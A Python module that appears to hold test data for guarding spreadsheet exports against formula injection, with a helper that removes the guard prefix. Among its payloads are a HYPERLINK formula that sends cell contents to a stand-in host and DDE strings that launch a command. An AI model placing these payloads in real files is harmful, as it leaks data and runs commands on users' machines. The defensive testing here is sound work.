"""Formula injections: texts that a spreadsheet would calculate, and a function that restores exported ones."""

from freight.reports.formulas import BEFORE_LIVE, GUARD

LIVE = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
CALLS = ("1+1", 'HYPERLINK("http://evil.example?"&A1,"open")', "cmd|' /C calc'!A0", "SUM(A1)*cmd|'/C calc'!A0")
UNSEEN = ("", " ", "\t", "\r", "\n", "\x00", "\x0b", "\xa0", "\u200b", "\ufeff", '"', "'", "'\"'")

NOT_LIVE = ("%0A=1+1", "|calc")  # look like formulas, but are text everywhere
HOSTILE = (
    *(f"{sign}{call}" for sign in LIVE for call in CALLS),
    *(f"{unseen}=1+1" for unseen in UNSEEN),
    *(f"a{cut}{unseen}=1+1" for cut in (";", "\n", "\r\n", "\t") for unseen in ("", " ", '"')),
    'x";=1+1;"',
    ";;;=1+1",
    "a;+1;-1;@SUM(1)",
    "+237 699 12 34 56",
    "-5",
    "'=1",
    "''=1",
    "a;'=1",
    *NOT_LIVE,
)
HARMLESS = (
    "TRX-1",
    "Edéa = Édéa",
    "a, -5",
    "é😀",
    "00042",
    "1e5",
    " x ",
    "",
    "_x000D_",
    "'",
    "it's",
    "a;b",
    "http://x/?a=1",
)


def without_guard(text: str) -> str:
    """Remove the prefix that an export puts before each part of a text that a spreadsheet would calculate."""
    return BEFORE_LIVE.sub(lambda found: found[0].removesuffix(GUARD), text)
